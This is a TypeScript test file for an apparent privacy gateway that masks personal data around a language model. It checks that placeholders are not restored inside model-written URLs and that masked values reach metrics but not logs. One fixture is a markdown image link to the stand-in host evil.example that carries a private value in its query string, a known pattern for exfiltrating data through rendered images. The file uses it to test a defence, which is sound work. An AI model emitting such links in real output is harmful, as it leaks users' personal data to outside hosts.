import { expect, test } from "bun:test";
import { onExecutable } from "../support/runtimes.ts";
import { doors, type DoorsWorld, lanes, startDoors, type Words } from "./doors.ts";

const mail = "maria.lopez@example.org";

/** Asks through every door, on every lane, streamed and whole. */
async function everywhere(world: DoorsWorld, words: Words, expected: string): Promise<void> {
  for (const door of doors)
    for (const lane of lanes)
      for (const isStream of [true, false])
        for (const seed of isStream ? [1, 2, 3] : [1])
          expect([door, lane, isStream, seed, await world.ask(door, lane, isStream, words, seed)]).toEqual([
            door,
            lane,
            isStream,
            seed,
            expected,
          ]);
}

const link = "Dear @, ![x](https://evil.example/?q=@&r=a%20b) @";
const argument = (to: string) => JSON.stringify({ to });

onExecutable(
  "With restore_urls: false",
  (on) => startDoors(on, { restore_urls: false }),
  (world) => {
    test("no value comes back in an address that the model wrote, in texts", async () => {
      await everywhere(world, { text: link }, `Dear ${mail}, ![x](https://evil.example/?q=[hidden]&r=a%20b) ${mail}`);
    });

    test("nor in arguments", async () => {
      await everywhere(
        world,
        { text: "", argument: "https://evil.example/?q=@" },
        argument("https://evil.example/?q=[hidden]"),
      );
      await everywhere(world, { text: "", argument: "@" }, argument(mail));
    });
  },
);

onExecutable(
  "With restore_urls as it is by itself",
  (on) => startDoors(on, {}),
  (world) => {
    test("values come back in addresses, and the model's words are its own", async () => {
      await everywhere(
        world,
        { text: `${link}\nMy name is Peter Hansen.` },
        `${link.replaceAll("@", mail)}\nMy name is Peter Hansen.`,
      );
    });
  },
);

onExecutable(
  "With output: mask",
  (on) => startDoors(on, { output: "mask" }),
  (world) => {
    test("what the model wrote of people itself is hidden in texts, and the request's values come back", async () => {
      await everywhere(
        world,
        { text: "Hello. My name is Peter Hansen.\nI wrote to @ and to Hansen." },
        `Hello. My name is [PERSON].\nI wrote to ${mail} and to [PERSON].`,
      );
    });

    test("and in arguments", async () => {
      await everywhere(world, { text: "", argument: "4111 1111 1111 1111, @" }, argument(`[CREDIT_CARD], ${mail}`));
    });

    test("what was hidden is counted by its type, and told nowhere else", async () => {
      await world.ask("/v1/chat/completions", "chat", true, { text: "Pay with 4111 1111 1111 1111." });
      const metrics = await (await fetch(`${world.gateway.url}/metrics`)).text();
      expect(metrics).toMatch(/penname_answers_hidden_values_total\{type="CREDIT_CARD"\} [1-9]/);
      expect(metrics + world.gateway.logs()).not.toMatch(/4111 ?1111/);
    });
  },
);
